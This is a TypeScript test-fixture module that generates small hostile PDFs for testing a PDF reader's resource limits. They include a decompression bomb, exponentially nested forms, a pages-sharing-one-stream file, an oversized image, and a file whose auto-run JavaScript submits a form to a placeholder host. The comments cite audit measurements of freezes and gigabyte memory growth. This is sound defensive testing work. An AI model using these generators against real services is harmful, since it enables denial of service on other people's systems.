/** A PDF made unreadable without its password: an /Encrypt dictionary whose user password is not empty. */
export function lockedPdf(pdf: Buffer) {
  const hex32 = (byte: string) => `<${byte.repeat(32)}>`
  const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${hex32('7a')} /U ${hex32('3c')} /P -4 >>`
  const id = '<00112233445566778899aabbccddeeff>'
  return Buffer.from(
    pdf.toString('latin1').replace(/trailer\n<< /, `trailer\n<< ${encrypt} /ID [${id} ${id}] `),
    'latin1',
  )
}

// Hostile PDFs (issue 20), written by hand and small on the wire; each one costs a reader that
// has no limits time or memory far beyond its size. Objects are numbered from 1 in order.

/** A PDF of the given objects (strings in latin1, or bytes), the first being the catalog. */
export function assemblePdf(objects: (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  let length = parts[0].length
  const offsets = objects.map((body, i) => {
    const offset = length
    const bytes = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ])
    parts.push(bytes)
    length += bytes.length
    return offset
  })
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n`
  parts.push(Buffer.from(xref, 'latin1'))
  return Buffer.concat(parts)
}

function stream(dictionary: string, data: Buffer) {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ])
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/**
 * `pages` pages that all draw one content stream of about 190 KB of text: every page's text
 * is read again from it (the audit's file froze a reader without limits for 107 s).
 */
export function manyPagesOneStream(pages = 1000): Buffer {
  const line = 'BT /F1 9 Tf 40 700 Td (The same words again and again on every single page) Tj ET\n'
  const content = Buffer.from(line.repeat(Math.ceil(190_000 / line.length)), 'latin1')
  // 1 catalog, 2 page tree, 3 font, 4 content, then the pages.
  const kids = Array.from({ length: pages }, (_, i) => `${5 + i} 0 R`).join(' ')
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    FONT,
    stream('', content),
    ...Array.from(
      { length: pages },
      () =>
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>',
    ),
  ])
}

/**
 * One page drawing form XObject n, which draws form n-1 twice, down to a form with one word:
 * 2^depth words from a few kilobytes (the audit's 17 levels froze a reader for 23 s).
 */
export function nestedForms(depth = 17): Buffer {
  // 1 catalog, 2 page tree, 3 font, 4 page, 5 page content, 6… forms 0…depth.
  const form = (n: number) => 6 + n
  const forms = Array.from({ length: depth + 1 }, (_, n) => {
    const content =
      n === 0
        ? 'BT /F1 9 Tf 40 700 Td (word) Tj ET'
        : `q /X${n - 1} Do Q q 1 0 0 1 0.1 0 cm /X${n - 1} Do Q`
    const resources =
      n === 0 ? '/Font << /F1 3 0 R >>' : `/XObject << /X${n - 1} ${form(n - 1)} 0 R >>`
    return stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << ${resources} >>`,
      Buffer.from(content, 'latin1'),
    )
  })
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    FONT,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /X${depth} ${form(depth)} 0 R >> >> /Contents 5 0 R >>`,
    stream('', Buffer.from(`/X${depth} Do`, 'latin1')),
    ...forms,
  ])
}

/**
 * Deflates `size` bytes of `byte` without holding them: fed a megabyte at a time, so a
 * gigabyte-sized bomb costs the test no memory.
 */
async function deflateRepeated(size: number, byte: number): Promise<Buffer> {
  const { createDeflate } = await import('node:zlib')
  const deflate = createDeflate({ level: 9 })
  const out: Buffer[] = []
  deflate.on('data', (chunk: Buffer) => out.push(chunk))
  const done = new Promise((resolve, reject) => {
    deflate.on('end', resolve)
    deflate.on('error', reject)
  })
  const chunk = Buffer.alloc(1 << 20, byte)
  for (let left = size; left > 0; left -= chunk.length) {
    const piece = left >= chunk.length ? chunk : chunk.subarray(0, left)
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve))
  }
  deflate.end()
  await done
  return Buffer.concat(out)
}

/**
 * One page whose content stream is about `compressed` bytes of Flate data that inflate to
 * spaces, ~1,000 times as many (the audit's 1 MB stream grew a reader by 1.5 GiB).
 */
export async function flateBomb(compressed = 1 << 20): Promise<Buffer> {
  // Deflate at level 9 packs runs of one byte about 1,030 to 1.
  const data = await deflateRepeated(compressed * 1030, 0x20)
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    stream('/Filter /FlateDecode', data),
  ])
}

/**
 * One page drawing a `side` × `side` grey image (Flate, so the file stays small): 256 million
 * pixels at 16,000 (the audit's file grew a reader by 3.2 GiB).
 */
export async function hugeImage(side = 16_000): Promise<Buffer> {
  const data = await deflateRepeated(side * side, 0x80)
  const content = 'q 612 0 0 792 0 0 cm /Im0 Do Q'
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>',
    stream('', Buffer.from(content, 'latin1')),
    stream(
      `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`,
      data,
    ),
  ])
}

/**
 * A readable one-page PDF that carries JavaScript (run when opened) and an XFA form: what a
 * browser's or desktop viewer would run if it were shown inline.
 */
export function scriptedPdf(): Buffer {
  const xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [] /XFA 7 0 R >> /Names << /JavaScript << /Names [(run) 6 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream('', Buffer.from('BT /F1 24 Tf 56 700 Td (A scripted edition) Tj ET', 'latin1')),
    FONT,
    '<< /S /JavaScript /JS (app.alert\\("opened"\\); this.submitForm\\("https://example.org/"\\);) >>',
    stream('', Buffer.from(xfa, 'latin1')),
  ])
}
